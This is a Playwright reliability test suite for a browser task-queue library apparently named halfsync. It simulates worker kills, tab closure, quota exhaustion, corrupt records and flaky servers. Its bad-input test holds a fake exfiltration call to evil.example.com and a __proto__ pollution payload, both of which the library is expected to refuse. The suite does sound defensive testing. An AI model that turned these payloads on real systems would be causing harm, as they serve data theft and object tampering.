// Reliability under faults, in real Chromium with a real worker: nothing accepted is lost, no
// effect applies twice, no task runs twice at once. Each test records its figures for
// RELIABILITY.md (.reliability/*.json; `node scripts/reliability-report.mjs`).
import { test, expect, type Page } from '@playwright/test';
import { halfsyncKit, type HalfsyncKit } from '@halfsync/core/testing';
import { control, inPage, log, openApp, serverUntil, type ServerLog } from './support';
import { record } from './figures';

test.beforeEach(async () => { await control({ reset: true }); });

/** Per key: how many times the effect was applied (must be 1) and how many requests came. */
function effects(l: ServerLog) {
  const applied = new Map<string, number>();
  for (const a of l.applied) applied.set(a.key, (applied.get(a.key) ?? 0) + 1);
  return { keys: applied.size, duplicates: [...applied.values()].filter((n) => n > 1).length };
}

const rawRecords = (page: Page, db = 'halfsync') => page.evaluate((name) => new Promise<Array<Record<string, unknown>>>((resolve, reject) => {
  const open = indexedDB.open(name);
  open.onsuccess = () => {
    // Plain tasks wait in the inbox until a runner moves them into tasks, and large payloads are
    // kept apart in payloads (joined back here by id): all three, in one transaction.
    const names = ['tasks', 'inbox'].filter((n) => open.result.objectStoreNames.contains(n));
    const apart = open.result.objectStoreNames.contains('payloads');
    const tx = open.result.transaction(apart ? [...names, 'payloads'] : names);
    const reads = names.map((n) => tx.objectStore(n).getAll());
    const rows = apart ? tx.objectStore('payloads').getAll() : undefined;
    tx.oncomplete = () => {
      open.result.close();
      const byId = new Map(((rows?.result ?? []) as Array<{ id: string; payload: unknown }>).map((p) => [p.id, p.payload]));
      resolve(reads.flatMap((q) => q.result as Array<Record<string, unknown>>).map((r) => (r.apart === true ? { ...r, payload: byId.get(r.id as string) } : r)));
    };
    tx.onerror = () => reject(tx.error);
  };
  open.onerror = () => reject(open.error);
}), db);

test('the worker killed at random points during drains: every task succeeds, each effect applies once, no task runs twice at once', async ({ page }) => {
  test.setTimeout(180_000);
  const tasks = 300;
  await openApp(page, 'leaseMs=1000&holdMs=2000');
  const hs = await halfsyncKit(page, { timeoutMs: 120_000 });
  await control({ default: { status: 200, delayMs: 15 } });
  // Every other task carries a note of 2,000 characters: a payload kept apart from its record.
  const ids = await inPage(page, (h, n) => Promise.all(Array.from({ length: n }, (_, i) => h.defer(i % 2 ? { n: i, note: 'x'.repeat(2_000) } : { n: i }))), tasks);
  let kills = 0;
  for (;;) {
    const before = (await log()).received.length;
    await hs.stopWorker({ when: () => serverUntil((l) => l.received.length > before + 5 + Math.floor(Math.random() * 40) || l.applied.length >= tasks, 'requests between kills', 30_000) });
    kills++;
    if ((await log()).applied.length >= tasks) break;
    await hs.wakeWorker();
  }
  await hs.wakeWorker();
  const done = await hs.waitForIdle();
  const l = await log();
  const e = effects(l);
  record('worker-kill', { fault: 'worker killed mid-drain (CDP ServiceWorker.stopAllWorkers)', tasks, faults: kills, lost: tasks - done.filter((t) => t.status === 'succeeded').length, duplicates: e.duplicates, overlaps: l.overlaps.length, requests: l.received.length });
  expect(done.filter((t) => ids.includes(t.id)).map((t) => t.status)).toEqual(Array(tasks).fill('succeeded'));
  expect(e).toEqual({ keys: tasks, duplicates: 0 });
  expect(l.overlaps).toEqual([]);
  expect(kills).toBeGreaterThanOrEqual(3);
  // Each request carried its whole payload, the large ones read back from where they were kept apart.
  const sent = l.received.filter((r) => r.path === '/api/ops' && r.status === 200) as Array<{ body?: { n: number; note?: string } }>;
  expect(sent.length).toBeGreaterThanOrEqual(tasks);
  expect(sent.every((r) => (r.body!.n % 2 ? r.body!.note?.length === 2_000 : r.body!.note === undefined))).toBe(true);
});

test('the tab closed in the middle of a burst: every task whose persisted resolved is stored whole and completes', async ({ context }) => {
  const witness = await context.newPage();
  await openApp(witness);
  // The witness tab hears, over a BroadcastChannel, every id whose `persisted` resolved in the doomed tab.
  await witness.evaluate(() => {
    const seen: string[] = [];
    (window as unknown as { persistedIds: string[] }).persistedIds = seen;
    new BroadcastChannel('fault-witness').onmessage = (e: MessageEvent<string>) => { seen.push(e.data); };
  });
  const doomed = await context.newPage();
  await openApp(doomed);
  await control({ default: { status: 200, delayMs: 5 } });
  await doomed.evaluate(() => {
    const bc = new BroadcastChannel('fault-witness');
    const hs = (window as unknown as { hs: { client: { defer(t: unknown, p: unknown): { persisted: Promise<{ id: string }> } }; postOp: unknown } }).hs;
    let i = 0;
    // Bursts of 25 defers per tick, as fast as the page can go, until the tab dies.
    const burst = () => {
      for (let k = 0; k < 25; k++) void hs.client.defer(hs.postOp, { n: i++ }).persisted.then((t) => bc.postMessage(t.id), () => {});
      setTimeout(burst, 0);
    };
    burst();
  });
  await witness.waitForFunction(() => (window as unknown as { persistedIds: string[] }).persistedIds.length >= 200);
  await doomed.close();
  const persisted = await witness.evaluate(() => [...(window as unknown as { persistedIds: string[] }).persistedIds]);
  const hs = await halfsyncKit(witness, { timeoutMs: 60_000 });
  await hs.sync();
  const all = await hs.waitForIdle();
  const raw = await rawRecords(witness);
  const byId = new Map(all.map((t) => [t.id, t]));
  const lost = persisted.filter((id) => byId.get(id)?.status !== 'succeeded').length;
  const quarantined = await witness.evaluate(() => (window as unknown as { hs: { client: { quarantined(): Promise<unknown[]> } } }).hs.client.quarantined().then((q) => q.length));
  const l = await log();
  const e = effects(l);
  record('tab-closed', { fault: 'tab closed mid-burst of defers', tasks: all.length, faults: 1, lost, duplicates: e.duplicates, overlaps: l.overlaps.length, persistedBeforeClose: persisted.length, halfWritten: quarantined });
  expect(lost).toBe(0);
  expect(quarantined).toBe(0);
  expect(raw.every((r) => typeof r.id === 'string' && typeof r.idempotencyKey === 'string' && typeof (r.payload as { n?: unknown })?.n === 'number')).toBe(true);
  expect(all.every((t) => t.status === 'succeeded')).toBe(true);
  expect(e.duplicates).toBe(0);
  expect(e.keys).toBe(all.length);
});

test('the storage quota exhausted: QUOTA_EXCEEDED reaches the caller, tasks already stored are untouched and complete', async ({ context, page }) => {
  await openApp(page);
  const hs = await halfsyncKit(page);
  const origin = new URL(page.url()).origin;
  const cdp = await context.newCDPSession(page);
  const { usage } = await cdp.send('Storage.getUsageAndQuota', { origin }) as { usage: number };
  // Room for a few small tasks and no more. (Chromium keeps its view of the free space for a
  // while, so the quota is lowered before the first write.)
  await cdp.send('Storage.overrideQuotaForOrigin', { origin, quotaSize: usage + 200_000 });
  const stored = await inPage(page, (h) => Promise.all([1, 2, 3].map((n) => h.defer({ n }, { delay: 1_500 }))));
  const refused = await inPage(page, async (h) => {
    const big = 'q'.repeat(400_000);
    const handles = [0, 1, 2].map((i) => h.client.defer(h.postOp, { n: 100 + i, note: big } as never));
    return Promise.all(handles.map((x) => x.persisted.then(() => 'stored', (e: { code: string }) => e.code)));
  });
  const snapshot = await inPage(page, (h) => h.client.getSnapshot().map((t) => (t.payload as { n: number }).n));
  await cdp.send('Storage.overrideQuotaForOrigin', { origin });
  for (const id of stored) await hs.waitForTask(id, 'succeeded', { timeoutMs: 30_000 });
  const tasks = await hs.tasks();
  const l = await log();
  record('quota', { fault: 'quota exhausted (CDP Storage.overrideQuotaForOrigin)', tasks: stored.length, faults: refused.filter((r) => r === 'QUOTA_EXCEEDED').length, lost: stored.filter((id) => tasks.find((t) => t.id === id)?.status !== 'succeeded').length, duplicates: effects(l).duplicates, overlaps: l.overlaps.length });
  expect(refused).toEqual(['QUOTA_EXCEEDED', 'QUOTA_EXCEEDED', 'QUOTA_EXCEEDED']);
  // Refused tasks left no trace: not in the snapshot, not in the store, never sent.
  expect(snapshot).toEqual([1, 2, 3]);
  expect(tasks.map((t) => (t.payload as { n: number }).n)).toEqual([1, 2, 3]);
  expect(l.applied.map((a) => a.n).sort()).toEqual([1, 2, 3]);
});

test('a corrupt record written straight into IndexedDB is quarantined with a reason; the other tasks complete', async ({ page }) => {
  await openApp(page);
  const hs = await halfsyncKit(page);
  const [before] = await inPage(page, (h) => Promise.all([h.defer({ n: 1 }, { delay: 800 })]));
  await page.evaluate(() => new Promise<void>((resolve, reject) => {
    const open = indexedDB.open('halfsync');
    open.onsuccess = () => {
      const tx = open.result.transaction('tasks', 'readwrite');
      // One the executor meets (it is due), one no index reaches: only a runner's start-up sweep meets it.
      tx.objectStore('tasks').put({ seq: 900_001, id: 'corrupt-due', name: 'post-op', status: 'pending', attempts: 'lots', due: 0 });
      tx.objectStore('tasks').put({ seq: 900_002, id: 'corrupt-idle', name: 'post-op', status: 'teleported', attempts: 0 });
      tx.oncomplete = () => { open.result.close(); resolve(); };
      tx.onerror = () => reject(tx.error);
    };
  }));
  const after = await inPage(page, (h) => h.defer({ n: 2 }));
  await hs.waitForTask(before!, 'succeeded');
  await hs.waitForTask(after, 'succeeded');
  // A fresh worker sweeps the store once when it starts.
  await hs.stopWorker();
  await page.reload();
  await openApp(page);
  await hs.waitForIdle();
  const q = await page.evaluate(() => (window as unknown as { hs: { client: { quarantined(): Promise<Array<{ seq: number; reason: string }>> } } }).hs.client.quarantined());
  const l = await log();
  record('corrupt-record', { fault: 'corrupt records written into IndexedDB', tasks: 2, faults: 2, lost: 0, duplicates: effects(l).duplicates, overlaps: l.overlaps.length, quarantined: q.length });
  expect(q.map((x) => x.seq).sort()).toEqual([900_001, 900_002]);
  expect(q.find((x) => x.seq === 900_001)?.reason).toContain('attempts');
  expect(q.find((x) => x.seq === 900_002)?.reason).toContain('status');
  expect((await hs.tasks()).map((t) => t.id).sort()).toEqual([before, after].sort());
});

test('a database from the previous schema version is upgraded without losing a task', async ({ page }) => {
  await page.goto('/?autostart=0');
  const n = 40;
  await page.evaluate((count) => new Promise<void>((resolve, reject) => {
    // Schema version 1, as the first release wrote it: no lanes, no due index, no quarantine.
    const open = indexedDB.open('halfsync', 1);
    open.onupgradeneeded = () => {
      const tasks = open.result.createObjectStore('tasks', { keyPath: 'seq', autoIncrement: true });
      tasks.createIndex('id', 'id', { unique: true });
      tasks.createIndex('status', 'status');
      const now = Date.now();
      for (let i = 0; i < count; i++) {
        tasks.add({ id: `v1-${i}`, name: 'post-op', payload: { n: i }, status: 'pending', attempts: 0, createdAt: now, updatedAt: now, nextRunAt: now, idempotencyKey: `v1-key-${i}`, ...(i % 2 ? { orderKey: 'odd' } : {}) });
      }
    };
    open.onsuccess = () => { open.result.close(); resolve(); };
    open.onerror = () => reject(open.error);
  }), n);
  await page.evaluate(() => (window as unknown as { hs: { start(): { ready: Promise<string> } } }).hs.start().ready);
  const hs = await halfsyncKit(page);
  const done = await hs.waitForIdle({ timeoutMs: 30_000 });
  const l = await log();
  record('schema-upgrade', { fault: 'database of schema version 1', tasks: n, faults: 1, lost: n - done.filter((t) => t.status === 'succeeded').length, duplicates: effects(l).duplicates, overlaps: l.overlaps.length });
  expect(done.map((t) => t.id)).toEqual(Array.from({ length: n }, (_, i) => `v1-${i}`));
  expect(done.every((t) => t.status === 'succeeded')).toBe(true);
  expect(l.applied.map((a) => a.key).sort()).toEqual(Array.from({ length: n }, (_, i) => `v1-key-${i}`).sort());
  // The odd lane kept its order.
  const odd = l.received.filter((r) => r.body!.n % 2 === 1).map((r) => r.body!.n);
  expect(odd).toEqual([...odd].sort((a, b) => a - b));
});

test('three tabs and the worker draining at once: each task runs once at a time and all complete', async ({ context }) => {
  const pages = [await context.newPage(), await context.newPage(), await context.newPage()];
  // One tab on the worker, two with page runners of their own: four runners on one database.
  await openApp(pages[0]!, 'concurrency=4');
  await openApp(pages[1]!, 'sw=0');
  await openApp(pages[2]!, 'sw=0');
  await control({ default: { status: 200, delayMs: 10 } });
  const per = 60;
  const kits: HalfsyncKit[] = [];
  for (const p of pages) kits.push(await halfsyncKit(p, { timeoutMs: 60_000 }));
  const all = (await Promise.all(pages.map((p, k) => inPage(p, async (h, a) => {
    const ids: string[] = [];
    for (let i = 0; i < a.per; i++) {
      ids.push(await h.defer({ n: a.k * 1000 + i }));
      if (i % 10 === 0) void h.client.drain().catch(() => {});
    }
    return ids;
  }, { per, k })))).flat();
  await kits[0]!.sync();
  const done = await kits[1]!.waitForIdle();
  const l = await log();
  const e = effects(l);
  const perKey = new Map<string, number>();
  for (const r of l.received) perKey.set(r.key, (perKey.get(r.key) ?? 0) + 1);
  record('three-tabs', { fault: 'three tabs (two page runners) and the worker draining at once', tasks: all.length, faults: 4, lost: all.length - done.filter((t) => t.status === 'succeeded').length, duplicates: e.duplicates, overlaps: l.overlaps.length, repeatedRequests: [...perKey.values()].filter((c) => c > 1).length });
  expect(done.filter((t) => all.includes(t.id)).every((t) => t.status === 'succeeded')).toBe(true);
  expect(e).toEqual({ keys: all.length, duplicates: 0 });
  expect(l.overlaps).toEqual([]);
  // Without a crash, no task is even sent twice.
  expect([...perKey.values()].every((c) => c === 1)).toBe(true);
});

test('a flaky server (500s, hung requests cut by a timeout, 429 with Retry-After): all tasks succeed, effects once, backoff respected', async ({ page }) => {
  // `npm run soak` runs this with 10,000 tasks; the time limit scales with the count, so it always stops.
  const tasks = Number(process.env.HALFSYNC_FLAKY_TASKS ?? 300);
  test.setTimeout(60_000 + tasks * 120);
  await openApp(page, 'timeoutMs=800&leaseMs=3000&concurrency=8');
  const hs = await halfsyncKit(page, { timeoutMs: 30_000 + tasks * 100 });
  await control({ flaky: { p500: 0.2, hang: 0.05, p429: 0.05, retryAfter: 1 } });
  await inPage(page, async (h, n) => {
    for (let i = 0; i < n; i += 100) {
      await Promise.all(Array.from({ length: Math.min(100, n - i) }, (_, k) => deferFetchOp(h, i + k)));
    }
    function deferFetchOp(x: { deferFetch(url: string, init: RequestInit): Promise<string> }, i: number) {
      return x.deferFetch('/api/echo', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ n: i }) });
    }
  }, tasks);
  const done = await hs.waitForIdle();
  await control({ flaky: null });
  const l = await log();
  const e = effects(l);
  const byKey = new Map<string, typeof l.received>();
  for (const r of l.received) byKey.set(r.key, [...(byKey.get(r.key) ?? []), r]);
  let early = 0;
  for (const rs of byKey.values()) for (let i = 1; i < rs.length; i++) if (rs[i - 1]!.behaviour === '429' && rs[i]!.at - rs[i - 1]!.at < 1_000) early++;
  const faults = l.received.filter((r) => r.behaviour !== '200').length;
  record(tasks >= 10_000 ? 'soak' : 'flaky-server', { fault: 'flaky server: 20% 500, 5% hung (cut at 800 ms), 5% 429 Retry-After: 1', tasks, faults, lost: tasks - done.filter((t) => t.status === 'succeeded').length, duplicates: e.duplicates, overlaps: l.overlaps.length, retryAfterViolations: early });
  expect(done.filter((t) => t.status === 'succeeded')).toHaveLength(tasks);
  expect(e).toEqual({ keys: tasks, duplicates: 0 });
  expect(l.overlaps).toEqual([]);
  expect(early).toBe(0);
  expect(faults).toBeGreaterThan(tasks * 0.15);
});

test('chains and batches through a flaky server and worker kills mid-batch: every task succeeds, parents before children, each effect and each event once', async ({ page }) => {
  test.setTimeout(180_000);
  const chains = 40;
  const events = 200;
  await openApp(page, 'leaseMs=1000&holdMs=2000');
  const hs = await halfsyncKit(page, { timeoutMs: 120_000 });
  // The first two batch requests fail (a 500, then a connection reset), whatever the dice say.
  await control({ flaky: { p500: 0.2, hang: 0, p429: 0, retryAfter: 1 }, default: { status: 200, delayMs: 20 }, scriptFor: { '/api/echo': [{ status: 500 }, { down: true }] } });
  const ids = await inPage(page, async (h, a) => {
    const out: string[] = [];
    for (let i = 0; i < a.chains; i++) {
      const parent = h.client.defer(h.postOp, { n: i });
      const child = h.client.defer(h.postOp, { n: 1_000 + i }, { after: [parent] });
      out.push(parent.id, child.id);
    }
    for (let i = 0; i < a.events; i++) out.push(h.client.defer(h.statsBatch, { n: i }).id);
    return out;
  }, { chains, events });
  let kills = 0;
  for (let k = 0; k < 4; k++) {
    const before = (await log()).received.length;
    await hs.stopWorker({ when: () => serverUntil((l) => l.received.length > before + 5 + Math.floor(Math.random() * 20), 'requests between kills', 30_000) });
    kills++;
    await hs.wakeWorker();
  }
  const done = await hs.waitForIdle();
  await control({ flaky: null });
  const l = await log();
  record('chains-batches', { fault: 'chains and batches: 20% 500 and worker kills mid-batch', tasks: ids.length, faults: kills + l.received.filter((r) => r.behaviour === '500').length, lost: ids.length - done.filter((t) => ids.includes(t.id) && t.status === 'succeeded').length, duplicates: effects(l).duplicates, overlaps: l.overlaps.length });
  expect(done.filter((t) => ids.includes(t.id)).map((t) => t.status)).toEqual(Array(ids.length).fill('succeeded'));
  expect(l.overlaps).toEqual([]);
  // Parents before children: the child's effect is applied after its parent's.
  const seqOf = new Map(l.applied.map((a) => [a.key, a.seq]));
  for (let i = 0; i < chains; i++) expect(seqOf.get(ids[2 * i]!)!).toBeLessThan(seqOf.get(ids[2 * i + 1]!)!);
  expect(effects(l).duplicates).toBe(0);
  // Failures did hit batches (a 500 answered to a batch's request) and chains alike.
  expect(l.received.filter((r) => r.path === '/api/echo').slice(0, 2).map((r) => r.behaviour)).toEqual(['500', 'down']);
  expect(l.received.some((r) => r.path === '/api/ops' && r.behaviour === '500')).toBe(true);
  // Each event counted once: the first application of each batch key, decoded, holds every event exactly once.
  const firstOfKey = new Set<string>();
  const counted: number[] = [];
  for (const r of l.received) {
    if (r.path !== '/api/echo' || r.status !== 200 || r.dup || firstOfKey.has(r.key)) continue;
    firstOfKey.add(r.key);
    counted.push(...(JSON.parse(Buffer.from(r.bodyBase64!, 'base64').toString()) as { events: number[] }).events);
  }
  expect(counted.sort((a, b) => a - b)).toEqual(Array.from({ length: events }, (_, i) => i));
});

test('bad input at every public entry gets a coded error or a safe outcome, and credentials are never stored', async ({ page }) => {
  await openApp(page);
  const outcomes = await page.evaluate(async () => {
    const w = window as unknown as { hs: { client: { defer(t: unknown, p: unknown, o?: unknown): { persisted: Promise<{ id: string }> }; retry(id: string): Promise<void> }; postOp: unknown; http: unknown; deferFetch(u: string, i?: RequestInit): Promise<string> } };
    const { client, postOp } = w.hs;
    const code = (fn: () => unknown) => { try { fn(); return 'accepted'; } catch (e) { return (e as { code?: string }).code ?? String(e); } };
    const codeAsync = async (fn: () => Promise<unknown>) => { try { await fn(); return 'accepted'; } catch (e) { return (e as { code?: string }).code ?? String(e); } };
    const polluted = JSON.parse('{"n":1,"__proto__":{"polluted":true}}') as unknown;
    const results: Record<string, string> = {
      function: code(() => client.defer(postOp, { n: 1, cb: () => 1 })),
      blob: code(() => client.defer(postOp, { n: 1, file: new Blob(['x']) })),
      symbol: code(() => client.defer(postOp, { n: 1, s: Symbol('x') })),
      classInstance: code(() => client.defer(postOp, { n: 1, when: new (class Moment { t = 1; })() })),
      tooLarge: code(() => client.defer(postOp, { n: 1, note: 'x'.repeat(2_000_000) })),
      unknownTask: code(() => client.defer({ name: 'nope', options: { run: () => 1 } }, { n: 1 })),
      badOption: code(() => client.defer(postOp, { n: 1 }, { delay: 'soon' })),
      unknownOption: code(() => client.defer(postOp, { n: 1 }, { priority: 1 })),
      protoKey: code(() => client.defer(postOp, polluted)),
      crossOrigin: await codeAsync(() => w.hs.deferFetch('https://evil.example.com/steal', { method: 'POST', body: 'x' })),
      streamBody: await codeAsync(() => w.hs.deferFetch('/api/echo', { method: 'POST', body: new ReadableStream(), duplex: 'half' } as RequestInit)),
      missingTask: await codeAsync(() => client.retry('no-such-id')),
      prototypeUntouched: String(({} as { polluted?: unknown }).polluted === undefined),
    };
    return results;
  });
  expect(outcomes).toEqual({
    function: 'PAYLOAD_NOT_CLONEABLE', blob: 'PAYLOAD_NOT_CLONEABLE', symbol: 'PAYLOAD_NOT_CLONEABLE', classInstance: 'PAYLOAD_NOT_CLONEABLE',
    tooLarge: 'PAYLOAD_TOO_LARGE', unknownTask: 'UNKNOWN_TASK', badOption: 'INVALID_OPTIONS', unknownOption: 'INVALID_OPTIONS',
    protoKey: 'PAYLOAD_UNSAFE_KEY', crossOrigin: 'ORIGIN_NOT_ALLOWED', streamBody: 'BODY_NOT_REPLAYABLE', missingTask: 'TASK_NOT_FOUND',
    prototypeUntouched: 'true',
  });
  // Credentials are stripped before storing, and supplied fresh at replay by the task's hook.
  const hs = await halfsyncKit(page);
  await control({ script: [{ status: 500 }] });
  const id = await page.evaluate(() => (window as unknown as { hs: { deferFetch(u: string, i?: RequestInit): Promise<string> } }).hs.deferFetch('/api/echo', { method: 'POST', headers: { Authorization: 'Bearer secret-from-the-page', 'content-type': 'text/plain' }, body: 'hello' }));
  const stored = (await rawRecords(page)).find((r) => r.id === id)!;
  expect(JSON.stringify(stored)).not.toContain('secret-from-the-page');
  expect((stored.payload as { strippedHeaders: string[] }).strippedHeaders).toEqual(['authorization']);
  await hs.waitForTask(id, 'succeeded');
  const echo = (await log()).received.filter((r) => r.path === '/api/echo' && r.status === 200);
  expect(echo[0]!.headers).toMatchObject({ authorization: 'Bearer fresh-at-replay', 'content-type': 'text/plain' });
  record('bad-input', { fault: 'bad input at every public entry (12 kinds) + Authorization header', tasks: 1, faults: 13, lost: 0, duplicates: 0, overlaps: 0 });
  // The worker refuses a malformed message instead of crashing.
  const reply = await page.evaluate(async () => {
    const reg = await navigator.serviceWorker.ready;
    return new Promise((resolve) => {
      const ch = new MessageChannel();
      ch.port1.onmessage = (e) => resolve(e.data);
      reg.active!.postMessage({ halfsync: 1, op: 'explode', db: 'halfsync' }, [ch.port2]);
    });
  });
  expect(reply).toMatchObject({ ok: false, code: 'INVALID_OPTIONS' });
});
